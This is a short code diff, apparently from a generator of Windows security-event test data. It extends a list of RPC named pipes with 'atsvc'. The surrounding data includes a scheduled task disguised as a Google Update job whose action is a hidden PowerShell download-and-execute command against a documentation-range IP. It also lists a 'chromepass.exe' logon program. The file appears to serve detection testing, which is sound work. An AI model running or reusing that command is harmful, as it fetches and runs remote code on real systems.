@@ -144,10 +144,22 @@ TASKS = (  # 4698/4699: name, action
     ("\\GoogleUpdateTaskMachineCore", "powershell.exe -w hidden -c iex(iwr http://198.51.100.8/a)"),
 )
 TK_DEPLOY, TK_MASQUERADE, TK_ATEXEC, TK_LOOKALIKE = range(4)
-PIPES = ("spoolss", "efsrpc", "lsarpc", "netlogon", "samr", "winreg", "protected_storage", "svcctl", "srvsvc")
+PIPES = (
+    "spoolss",
+    "efsrpc",
+    "lsarpc",
+    "netlogon",
+    "samr",
+    "winreg",
+    "protected_storage",
+    "svcctl",
+    "srvsvc",
+    "atsvc",
+)
 PI_SPOOLSS, PI_EFSRPC, PI_LSARPC, PI_NETLOGON, PI_SAMR, PI_WINREG, PI_PROTECTED, PI_SVCCTL, PI_SRVSVC = range(
     9
 )
+PI_ATSVC = 9
 LOGON_PROCS = (  # a program that calls LsaLogonUser itself: logon process name, the program
     ("KioskLgn", "C:\\Program Files\\KioskPro\\kiosk.exe"),
     ("chrome", "C:\\Users\\Public\\Downloads\\chromepass.exe"),
